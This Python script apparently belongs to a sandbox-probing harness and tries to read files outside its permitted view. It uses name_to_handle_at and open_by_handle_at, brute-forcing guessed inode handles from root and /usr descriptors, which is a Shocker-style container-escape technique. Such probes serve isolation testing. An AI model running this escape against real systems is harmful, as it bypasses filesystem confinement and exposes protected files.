"""Opens files by their number on the disk instead of their name."""

from __future__ import annotations

import ctypes
import os
import struct
import sys

sys.path.insert(0, sys.argv[0].rpartition("/")[0])
from kit import KNOWN, OWN, call, got, trying  # type: ignore[import-not-found]


def handle(kind: int, data: bytes) -> ctypes.Array[ctypes.c_char]:
    return ctypes.create_string_buffer(struct.pack("Ii", len(data), kind) + data, 8 + 128)


def look_from(fd: int) -> None:
    for path in KNOWN["paths"].values():
        with trying():
            got(os.read(os.open(path.lstrip("/"), os.O_RDONLY, dir_fd=fd), 50_000))


where = [os.open(path, os.O_RDONLY | os.O_DIRECTORY) for path in (*OWN.values(), "/", "/usr") if os.path.isdir(path)]
for path in (*KNOWN["paths"].values(), OWN["in"]):
    with trying(path):
        room = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136)
        mount = ctypes.c_int()
        call("name_to_handle_at", -100, path.encode(), ctypes.byref(room), ctypes.byref(mount), 0)
        for fd in where:
            with trying():
                got(os.read(call("open_by_handle_at", fd, ctypes.byref(room), os.O_RDONLY), 50_000))
for fd in where:
    for inode in (2, 128, 256, 64, 96, 1):
        for kind, data in ((1, struct.pack("II", inode, 0)), (0x81, struct.pack("QI", inode, 0))):
            with trying(f"inode {inode}"):
                look_from(call("open_by_handle_at", fd, ctypes.byref(handle(kind, data)), os.O_RDONLY))
